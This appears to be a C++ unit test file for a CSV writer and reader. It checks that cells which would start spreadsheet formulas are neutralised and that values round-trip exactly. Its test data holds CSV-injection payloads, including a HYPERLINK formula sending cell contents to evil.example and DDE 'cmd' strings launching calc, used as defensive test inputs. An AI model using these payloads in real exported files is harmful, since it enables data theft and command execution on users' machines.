// The generic CSV line writer and reader: quoting, and cells that a spreadsheet would run as formulas.

#include "meibo/core/Csv.h"
#include "meibo/core/Report.h"

#include <catch2/catch.hpp>

using namespace meibo::core;

namespace {
/// The fields of the one record of `line`, as readCsv gives them back.
std::vector<std::string> readBack(const std::string& line)
{
    const CsvRead read = readCsv(line);
    REQUIRE(read.error.empty());
    REQUIRE(read.records.size() == 1);
    return read.records.front().fields;
}

/// The cells of the first record as a spreadsheet sees them: RFC 4180 unquoting, no restoration.
std::vector<std::string> spreadsheetCells(const std::string& line)
{
    std::vector<std::string> cells(1);
    bool quoted = false;
    for (std::size_t i = 0; i < line.size(); ++i) {
        const char c = line[i];
        if (quoted) {
            if (c == '"' && i + 1 < line.size() && line[i + 1] == '"')
                cells.back() += line[++i];
            else if (c == '"')
                quoted = false;
            else
                cells.back() += c;
        } else if (c == '"') {
            quoted = true;
        } else if (c == ',') {
            cells.emplace_back();
        } else if (c == '\r' || c == '\n') {
            break;
        } else {
            cells.back() += c;
        }
    }
    return cells;
}
} // namespace

TEST_CASE("no cell the CSV writer makes starts a formula, whatever the value", "[csv]")
{
    const std::vector<std::string> hostile = {"=HYPERLINK(\"https://evil.example/?\"&A1,\"詳細\")",
                                              "+cmd|' /C calc'!A0",
                                              "-2+3",
                                              "@SUM(1+1)*cmd|' /C calc'!A0",
                                              "\t=1+1",
                                              "\r=1+1",
                                              "'=already quoted by someone",
                                              "''+two apostrophes",
                                              "=a,b \"quoted\"\r\nsecond line"};
    const std::string line = csvLine(hostile);
    const auto cells = spreadsheetCells(line);
    REQUIRE(cells.size() == hostile.size());
    for (const auto& cell : cells) {
        INFO(cell);
        CHECK_FALSE(csvCellStartsFormula(cell));
    }
    CHECK(cells[0] == "'=HYPERLINK(\"https://evil.example/?\"&A1,\"詳細\")");
    CHECK(cells[1] == "'+cmd|' /C calc'!A0");
    CHECK(cells[3] == "'@SUM(1+1)*cmd|' /C calc'!A0");
    CHECK(cells[6] == "''=already quoted by someone");
    CHECK(line.rfind("\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"詳細\"\")\",'+cmd|' /C calc'!A0,'-2+3,", 0) ==
          0);
}

TEST_CASE("the CSV reader gives back exactly what the writer was given", "[csv]")
{
    const std::vector<std::string> values = {"=HYPERLINK(\"x\")", "+81 3 1234 5678", "-", "@home", "\t=tab",
                                             "'=one apostrophe", "''=two", "'", "''", "it's fine", "'plain",
                                             "", "経済 太郎", "a,b", "x\r\ny", " leading space", "trailing tab\t",
                                             " 　both "};
    CHECK(readBack(csvLine(values)) == values);
}

TEST_CASE("cells that start no formula are written as they are", "[csv]")
{
    CHECK(csvLine({"経済 太郎", "1970-04-01", "'quoted", "it's", "a=b", " =1"}) ==
          "経済 太郎,1970-04-01,'quoted,it's,a=b,\" =1\"\r\n");
    CHECK(csvSafeCell("") == "");
    CHECK(csvSafeCell("'") == "'");
    CHECK(csvRestoredCell("'") == "'");
    CHECK(csvRestoredCell("'x") == "'x");
    CHECK(csvRestoredCell("'=x") == "=x");
    CHECK(csvRestoredCell("'''-x") == "''-x");
}

TEST_CASE("a status report's text that starts a formula is neutralised in its CSV", "[csv]")
{
    StatusReport report;
    report.answers.push_back({"2", ItemStatus::Done, "=HYPERLINK(\"https://evil.example\",\"確認\")"});
    const std::string csv = reportToCsv(report, true);
    CHECK(csv.find("\r\n2),実施,done,\"'=HYPERLINK(") != std::string::npos);
}
